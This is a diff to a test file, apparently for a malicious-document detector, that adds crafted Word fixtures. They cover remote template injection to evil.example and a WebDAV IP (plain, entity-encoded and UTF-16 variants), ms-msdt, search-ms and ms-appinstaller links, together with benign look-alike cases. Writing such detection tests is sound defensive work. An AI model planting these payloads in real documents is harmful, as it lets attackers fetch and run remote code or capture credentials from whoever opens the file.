@@ -73,6 +73,18 @@ ATTACKS = {
     "p.website behind another head": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"
     b"[InternetShortcut]\r\nURL=\\\\evil.example\\a.hta\r\n",
 }
+ATTACKS |= {
+    "q.docx template from a share by the web": word("attachedTemplate", r"\\203.0.113.7@80\DavWWWRoot\a.dotm"),
+    "r.docx template, letters by number": word("attachedTemplate", "&#104;ttp://evil.example/a.dotm"),
+    "s.docx template, in UTF-16": word(
+        word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "http://evil.example/a.dotm")
+        .decode()
+        .encode("utf-16")
+    ),
+    "t.docx link to the troubleshooter": word("hyperlink", "ms-msdt:/id PCWDiagnostic /param x"),
+    "u.docx link to a search elsewhere": word("hyperlink", r"search-ms:query=x&amp;crumb=location:\\203.0.113.7\d"),
+    "v.docx link that installs": word("hyperlink", "ms-appinstaller:?source=http://evil.example/a.appinstaller"),
+}
 SENT = {
     "a.docx picture from a server": word("image", r"\\evil.example\s\a.png"),
     "b.docx field that shows a picture": word(field=r'INCLUDEPICTURE "\\\\evil.example\\a.png" \d'),
@@ -94,6 +106,9 @@ HONEST = {
     "j.xml link, flat": (PACKED % relation("hyperlink", "https://hospital.example/").decode()).encode(),
     "k.csv sums": b"name,v\nx,=SUM(A1:A2)\n-12,+4\n",
     "l.ics": CALENDAR % b"https://hospital.example/plan.pdf",
+    "m.docx link to a paper": word("hyperlink", "ms-word:ofe|u|https://hospital.example/a.docx"),
+    "n.docx link to a shop of programs": word("hyperlink", "ms-windows-store://pdp/?ProductId=9"),
+    "o.docx template of the house": word("attachedTemplate", r"file:///\\srv-office\models\letter.dotx"),
 }
 
 
